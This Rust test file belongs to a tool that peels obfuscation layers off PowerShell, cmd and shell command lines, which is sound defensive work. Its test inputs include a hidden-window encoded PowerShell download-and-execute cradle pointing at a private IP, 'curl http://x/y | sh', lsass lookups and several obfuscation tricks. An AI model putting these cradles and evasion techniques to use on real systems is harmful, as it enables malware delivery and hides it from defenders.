//! The layer driver on every technique, alone and nested; limits and failures.

use super::*;
use crate::Shell;
use std::io::Write;

fn utf16_b64(s: &str) -> String {
    codec::encoded_command(s)
}

fn last(text: &str, shell: Shell) -> String {
    deobfuscate(text, shell).last().to_string()
}

const CMD: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')";

#[test]
fn encoded_command_under_every_spelling() {
    let b64 = utf16_b64(CMD);
    for flag in [
        "-e",
        "-en",
        "-enc",
        "-ENC",
        "-eNcOdEdCoMmAnD",
        "-ec",
        "/enc",
        "-EncodedCommand",
        "–enc",
    ] {
        let text = format!("powershell.exe -nop -w hidden {flag} {b64}");
        assert_eq!(last(&text, Shell::Cmd), CMD, "{flag}");
    }
    // Inside a cmd line, the rest of the line stays.
    let text = format!("cmd /c \"powershell -enc {b64}\" & echo done");
    assert_eq!(
        last(&text, Shell::Cmd),
        format!("cmd /c \"{CMD}\" & echo done")
    );
}

#[test]
fn base64_and_compressed_loaders() {
    let utf8 = codec::to_base64(CMD.as_bytes());
    let text =
        format!("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{utf8}')))");
    assert_eq!(last(&text, Shell::Powershell), CMD);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(CMD.as_bytes()).unwrap();
    let g = codec::to_base64(&gz.finish().unwrap());
    let text = format!(
        "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{g}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
    );
    assert_eq!(last(&text, Shell::Powershell), CMD);
    let mut df = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    df.write_all(CMD.as_bytes()).unwrap();
    let d = codec::to_base64(&df.finish().unwrap());
    let text = format!(
        "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{d}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
    );
    assert_eq!(last(&text, Shell::Powershell), CMD);
}

#[test]
fn string_expressions_and_invocations() {
    let cases = [
        "iex ('Get-Pro'+'cess -Name lsass')",
        "Invoke-Expression (\"{1}{0}{2}\" -f 'cess','Get-Pro',' -Name lsass')",
        "iex ('Get-XYZProcess -Name lsass' -replace 'XYZ','')",
        "&([scriptblock]::Create('Get-Pro'+'cess -Name lsass'))",
        "('Get-Process -Name lsass') | iex",
        "$c = 'Get-Pro' + 'cess -Name lsass'\niex $c",
        "$C = 'Get-Pro' + 'cess -Name lsass'\n$c | Invoke-Expression",
        // Another variable run first, in a match that overlaps the one of `$c`.
        "$c = 'Get-Pro' + 'cess -Name lsass'\n$other | iex ($c)",
    ];
    for c in cases {
        let out = last(c, Shell::Powershell);
        assert!(out.ends_with("Get-Process -Name lsass"), "{c} → {out}");
    }
    let codes: Vec<String> = "Get-Process"
        .chars()
        .map(|c| (c as u32).to_string())
        .collect();
    let text = format!("iex (-join [char[]]({}))", codes.join(","));
    assert_eq!(last(&text, Shell::Powershell), "Get-Process");
    assert_eq!(
        last("I`nv`oke-`Expr`ession 'whoami'", Shell::Powershell),
        "whoami"
    );
}

/// A call's arguments are not an expression to fold: `.LastIndexOf('.') + 1` stays.
#[test]
fn call_arguments_are_not_folded() {
    let text = "$p = $ip.Substring(0, $ip.LastIndexOf('.') + 1); $q = ('a' + 'b')";
    let d = deobfuscate(text, Shell::Powershell);
    assert_eq!(
        d.last(),
        "$p = $ip.Substring(0, $ip.LastIndexOf('.') + 1); $q = 'ab'"
    );
}

/// An apostrophe in a comment opens no quote: the backticks after it are still read.
#[test]
fn backticks_after_a_comment_with_an_apostrophe() {
    let text = "# create the folder if it doesn't exist\nNe`w-Item -Path C:\\temp\n<# it's \"done\" #>J`oin-Path a b # c`d\n'lit`eral'";
    assert_eq!(
        last(text, Shell::Powershell),
        "# create the folder if it doesn't exist\nNew-Item -Path C:\\temp\n<# it's \"done\" #>Join-Path a b # c`d\n'lit`eral'"
    );
    // A here-string's quotes close nothing; an expandable one reads backticks as double
    // quotes do, a literal one not at all.
    assert_eq!(
        last(
            "$s = @\"\nit's \"x`y`n\"\n\"@\nW`rite-Output $s",
            Shell::Powershell
        ),
        "$s = @\"\nit's \"xy`n\"\n\"@\nWrite-Output $s"
    );
    assert_eq!(
        last("$s = @'\nit\"s `x\n'@\nW`rite-Output $s", Shell::Powershell),
        "$s = @'\nit\"s `x\n'@\nWrite-Output $s"
    );
    // `@'` that does not end its line opens no here-string.
    assert_eq!(
        last("W`rite-Host @'x' I`x", Shell::Powershell),
        "Write-Host @'x' Ix"
    );
    // `#` inside a word is no comment: the quote after it still counts.
    assert_eq!(
        last("Write-Host a#b 'I`x' I`x", Shell::Powershell),
        "Write-Host a#b 'I`x' Ix"
    );
}

#[test]
fn cmd_and_sh_techniques() {
    assert_eq!(
        last("p^o^w^e^r^s^h^e^l^l -c whoami", Shell::Cmd),
        "powershell -c whoami"
    );
    assert_eq!(
        last("set a=who&& set b=ami&& call %a%%b%", Shell::Cmd),
        "whoami"
    );
    assert_eq!(
        last(
            "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | bash",
            Shell::Bash
        ),
        "curl http://x/y | sh"
    );
    assert_eq!(last(r"bash -c $'\x69\x64'", Shell::Bash), "id");
    assert_eq!(last("eval \"$(echo aWQ= | base64 -d)\"", Shell::Bash), "id");
    assert_eq!(last("echo 'di' | rev | sh", Shell::Sh), "id");
}

#[test]
fn nested_layers_are_each_shown() {
    let inner = "iex ('who'+'ami')";
    let text = format!("powershell -enc {}", utf16_b64(inner));
    let d = deobfuscate(&text, Shell::Cmd);
    let names: Vec<&str> = d.layers.iter().map(|l| l.decoder).collect();
    assert_eq!(
        names,
        [
            "original",
            "powershell-encoded-command",
            "powershell-invoke"
        ]
    );
    assert_eq!(d.last(), "whoami");
    // Each layer says what it is written for: the cmd line launches PowerShell, whose
    // payload is PowerShell from then on.
    let shells: Vec<Shell> = d.layers.iter().map(|l| l.shell).collect();
    assert_eq!(shells, [Shell::Cmd, Shell::Powershell, Shell::Powershell]);
}

#[test]
fn nesting_deeper_than_the_limit_stops_with_a_note() {
    let mut text = "whoami".to_string();
    for _ in 0..50 {
        text = format!(
            "echo {} | base64 -d | sh",
            codec::to_base64(text.as_bytes())
        );
        if text.len() > 200_000 {
            break;
        }
    }
    let d = deobfuscate(&text, Shell::Sh);
    assert_eq!(d.layers.len(), MAX_LAYERS + 1);
    assert!(
        d.notes.iter().any(|n| n.contains("stopped after")),
        "{:?}",
        d.notes
    );
}

#[test]
fn undecodable_payloads_are_left_and_explained() {
    let d = deobfuscate("powershell -enc AAAAAAAAAAAAAAAA!!!!", Shell::Cmd);
    assert_eq!(d.layers.len(), 1);
    let mz = codec::to_base64(
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00",
    );
    let d = deobfuscate(
        &format!("$b=[Convert]::FromBase64String('{mz}')"),
        Shell::Powershell,
    );
    assert_eq!(d.layers.len(), 1);
    assert!(
        d.notes.iter().any(|n| n.contains("Windows executable")),
        "{:?}",
        d.notes
    );
}

#[test]
fn garbage_never_panics() {
    let samples = [
        "\u{0}\u{1}\u{2}\u{ff}",
        "iex (((((((",
        "$'\\x",
        "set =&& call %%",
        "echo | base64 -d | sh",
        "'{0}' -f",
        "`",
        "^",
        "powershell -enc ====",
    ];
    for s in samples {
        for shell in [Shell::Sh, Shell::Bash, Shell::Cmd, Shell::Powershell] {
            let _ = deobfuscate(s, shell);
        }
    }
}

/// Forms that once panicked, looped or overflowed a decoder: each ends, with a verdict
/// of its layers, under every shell.
#[test]
fn hostile_forms_end() {
    let big = "x".repeat(300_000);
    let samples = [
        // An escaped non-ASCII character in a printf format.
        "printf '\\é\\x41' | sh".to_string(),
        "echo $(printf 'a\\ü')".to_string(),
        // An empty search text in a cmd replacement.
        "cmd /c echo %comspec:*=x% & %comspec:*=%".to_string(),
        "set v=abc&& call %v:*=%".to_string(),
        // Casts and prefix operators nested far past the limit.
        format!("iex {}'a'", "[string]".repeat(150_000)),
        format!("powershell x ({}'a')", "-join ".repeat(150_000)),
        // A replacement that matches everywhere, with a long replacement.
        format!("iex ('{big}' -replace '', '{big}')"),
    ];
    for s in &samples {
        for shell in [Shell::Sh, Shell::Bash, Shell::Cmd, Shell::Powershell] {
            let d = deobfuscate(s, shell);
            assert!(!d.last().is_empty(), "{shell:?}");
        }
    }
    // The printf format still decodes around the escaped character.
    let d = deobfuscate("printf '\\x69\\é\\x64' | sh", Shell::Sh);
    assert_eq!(d.last(), "i\\éd");
}

#[test]
fn a_flag_without_a_launcher_word_decodes() {
    let text = format!(
        "p^o^w^e^r^s^h^e^l^l -exec b^y^p^a^s^s -e {}",
        utf16_b64("whoami")
    );
    let d = deobfuscate(&text, Shell::Cmd);
    assert!(
        d.layers.iter().any(|l| l.text.contains("whoami")),
        "{:?}",
        d.layers
    );
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of the syntax the decoders look for, so random texts reach deep into them.
    const PIECES: &[&str] = &[
        "powershell",
        " -enc ",
        " -e ",
        "iex",
        "(",
        ")",
        "'",
        "\"",
        "+",
        " -f ",
        "{0}",
        "{1}",
        ",",
        "-join",
        "[char]",
        "[char[]]",
        "-replace",
        "`",
        "^",
        "%",
        "set a=",
        "&&",
        " & ",
        "call ",
        ":~",
        "$'",
        "\\x41",
        "echo ",
        " | ",
        "base64 -d",
        "sh",
        "eval ",
        "$(",
        "printf '\\101'",
        "rev",
        "xxd -r -p",
        ";",
        "\n",
        "[Convert]::FromBase64String(",
        "QUFB",
        "d2hvYW1p",
        "GzipStream",
        "é",
        "\u{0}",
        "€",
    ];

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]
        #[test]
        fn no_text_makes_a_decoder_panic(parts in proptest::collection::vec(0..PIECES.len(), 0..40), shell in 0..4usize) {
            let text: String = parts.iter().map(|&i| PIECES[i]).collect();
            let shell = [Shell::Sh, Shell::Bash, Shell::Cmd, Shell::Powershell][shell];
            let d = deobfuscate(&text, shell);
            prop_assert!(d.layers.len() <= MAX_LAYERS + 1);
        }

        #[test]
        fn arbitrary_unicode_never_panics(text in "\\PC{0,200}") {
            for shell in [Shell::Sh, Shell::Cmd, Shell::Powershell] {
                let _ = deobfuscate(&text, shell);
            }
        }
    }
}

#[test]
fn forms_found_by_the_obfuscation_generator() {
    // `Invoke-Expression -Command`, a multi-line string piped to iex, `call`, escaped
    // substitutions inside eval, printf with an escaped percent sign, the '\'' idiom.
    assert_eq!(
        last(
            "Invoke-Expression -Command 'whoami /all'",
            Shell::Powershell
        ),
        "whoami /all"
    );
    assert_eq!(
        last("'Get-Date\nGet-Process; whoami' | iex", Shell::Powershell),
        "Get-Date\nGet-Process; whoami"
    );
    assert_eq!(
        last("call net share x /delete", Shell::Cmd),
        "net share x /delete"
    );
    assert_eq!(
        last("eval \"X=\\$(id -u)\necho \\$X\"", Shell::Bash),
        "X=$(id -u)\necho $X"
    );
    assert_eq!(last(r"printf '\x25\x73 \x61' | sh", Shell::Sh), "%s a");
    assert_eq!(last(r"$(printf '\151\144 -u')", Shell::Sh), "id -u");
    assert_eq!(
        last(r"echo ''\''hs/nib/ cexe'\'' hctaw' | rev | sh", Shell::Sh),
        "watch 'exec /bin/sh'"
    );
}

#[test]
fn a_cmd_line_is_peeled_before_the_launcher_it_builds() {
    let b64 = utf16_b64(CMD);
    let clear = format!("powershell -nop -enc {b64}");
    // The launcher cut across `set` values: decoding the fragment in the first one alone
    // would give a truncated script.
    let (head, tail) = clear.split_at(clear.len() - 21);
    let split = format!("set p={head}&& set \"q={tail}\"&& call %p%%q%");
    assert_eq!(last(&split, Shell::Cmd), CMD);
    // Carets over the launcher are cmd's; they go before the payload is decoded.
    let careted = format!("p^o^w^e^r^s^h^e^l^l -n^o^p -enc {b64}");
    assert_eq!(last(&careted, Shell::Cmd), CMD);
    // Braces and a quoted `&&` inside `set` values do not end or join statements.
    assert_eq!(
        last(
            "set \"a=xw\"&& set b=izard Run {&& set \"c=x && y\"&& set d=0}&& call %a%%b%%d% %c%",
            Shell::Cmd
        ),
        "xwizard Run {0} x && y"
    );
}

/// A PowerShell loader of a compressed stream whose text holds the next such loader behind
/// megabytes of padding: each layer is within the per-layer limit, and the layers together
/// stop at [`MAX_TOTAL_BYTES`] with a note.
#[test]
fn layers_together_stop_at_their_total_limit() {
    fn loader(payload: &str) -> String {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(payload.as_bytes()).unwrap();
        let g = codec::to_base64(&gz.finish().unwrap());
        format!(
            "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{g}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
        )
    }
    let inner = format!("#{}\n{}", "B".repeat(1 << 20), loader("Get-Process"));
    let outer = format!("#{}\n{}", "A".repeat(5 << 19), loader(&inner));
    let d = deobfuscate(&loader(&outer), Shell::Powershell);
    let sizes: Vec<usize> = d.layers.iter().map(|l| l.text.len()).collect();
    assert!(sizes.iter().sum::<usize>() <= MAX_TOTAL_BYTES, "{sizes:?}");
    assert!(sizes.iter().all(|&n| n <= MAX_LAYER_BYTES), "{sizes:?}");
    assert_eq!(d.layers.len(), 3, "{sizes:?} {:?}", d.notes);
    assert!(
        d.notes.iter().any(|n| n.contains("past 8 MiB together")),
        "{:?}",
        d.notes
    );
    // Without the padding the same three loaders decode to the end.
    let small = loader(&format!(
        "#\n{}",
        loader(&format!("#\n{}", loader("Get-Process")))
    ));
    assert!(last(&small, Shell::Powershell).ends_with("Get-Process"));
}
